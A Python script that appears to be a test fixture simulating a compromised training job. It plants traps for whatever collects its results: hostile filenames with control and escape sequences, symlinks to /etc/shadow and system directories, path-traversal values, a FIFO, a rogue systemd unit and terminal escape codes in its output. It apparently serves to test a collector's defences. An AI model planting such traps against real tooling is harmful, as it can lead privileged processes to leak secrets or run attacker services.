"""A training that has been taken over: it leaves honest results, and beside them all that could lead root astray.

Everything here needs no more than what any training container may do: write to its own volume and to its own output.
"""

import os
import sys
import time
from pathlib import Path

RESULTS = Path("/snapshots")
RUN = sys.argv[1]
HOSTILE_NAMES = [b"line\nfeed", b"escape\x1b]52;c;YQ==\x07", b"no-utf8-\xff", "c1-\x9b2J".encode(), b"n" * 255]


def link(path: Path, target: str) -> None:
    path.unlink(missing_ok=True)
    path.symlink_to(target)


def plant() -> None:
    board = RESULTS / "tensorboard"
    board.mkdir(exist_ok=True)
    for name in HOSTILE_NAMES:
        Path(os.fsdecode(os.fsencode(board) + b"/" + name)).write_text("planted\n")
    for name, target in {
        "shadow": "/etc/shadow",
        "etc": "/etc",
        "engine": "/var/lib/docker/swarm",
        "up": "../../../../../../../../etc/shadow",
        "relative": "../snapshot.pt",
    }.items():
        link(board / name, target)
    if not (board / "pipe").exists():
        os.mkfifo(board / "pipe")
    link(RESULTS / "metrics-rank7.jsonl", "/etc/shadow")
    (RESULTS / "run_id").write_text("../../../../root/.ssh\n")
    (RESULTS / "evil.service").write_text("[Service]\nExecStart=/bin/touch /root/owned\n")
    if "runs-is-a-link" in sys.argv:
        (RESULTS / "runs").rename(RESULTS / "was-runs")
        link(RESULTS / "runs", "/etc/systemd/system")


def main() -> None:
    if os.environ.get("RANK", "0") == "0":
        plant()
        (RESULTS / "snapshot.pt").write_bytes(b"honest weights")
        metrics = '{"event": "start", "run": "%s"}\n' % RUN  # noqa: UP031 - what a run is called must stay as it is
        (RESULTS / "metrics.jsonl").write_text(metrics)
    else:
        (RESULTS / "metrics-rank1.jsonl").write_text('{"event": "honest"}\n')
    sys.stdout.write("\x1b]0;owned\x07\x1b]52;c;b3duZWQ=\x07loss 0.5\x1b[2J\n")
    sys.stdout.flush()
    time.sleep(1)


main()
